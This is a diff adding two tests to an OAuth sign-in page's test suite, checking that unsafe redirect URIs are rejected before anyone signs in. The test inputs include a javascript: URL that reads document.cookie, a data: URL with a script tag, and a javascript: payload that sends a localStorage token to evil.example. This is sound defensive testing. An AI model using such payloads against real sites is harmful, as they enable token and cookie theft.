@@ -16,6 +16,32 @@ describe('OAuthPage (/oauth)', { timeout: 20_000 }, () => {
     expect(thirdPartyRequest('?client_id=x')).toBeUndefined();
   });
 
+  it('never sends the browser to a javascript:, data: or plain-http address', () => {
+    for (const address of [
+      'javascript:alert(document.cookie)',
+      'data:text/html,<script>1</script>',
+      'http://app.example/cb',
+    ]) {
+      expect(() => redirectWithCode({ clientId: 'a', redirectUri: address }, 'c')).toThrow(/Redirect URI/);
+    }
+    expect(redirectWithCode({ clientId: 'a', redirectUri: 'http://127.0.0.1:9/cb' }, 'c')).toBe(
+      'http://127.0.0.1:9/cb?code=c',
+    );
+  });
+
+  it('refuses a link whose redirect_uri runs script, before anyone signs in', async () => {
+    const { fake, client } = fakeServer();
+    const redirect = vi.fn();
+    const link = `/oauth?response_type=code&client_id=app-7&redirect_uri=${encodeURIComponent('javascript:fetch("//evil.example/?"+localStorage.getItem("token"))')}&state=s`;
+    renderAt(<OAuthPage client={client} redirect={redirect} />, link);
+    expect(
+      screen.getByText(/This sign-in link is not valid: Redirect URI scheme "javascript:" is not allowed: use https/),
+    ).toBeInTheDocument();
+    expect(screen.queryByLabelText(/Email/)).not.toBeInTheDocument();
+    expect(redirect).not.toHaveBeenCalled();
+    expect(fake.callsTo('POST', /auth\/login/)).toHaveLength(0);
+  });
+
   it('says an incomplete link is incomplete', () => {
     const { client } = fakeServer();
     renderAt(<OAuthPage client={client} redirect={vi.fn()} />, '/oauth?client_id=x');
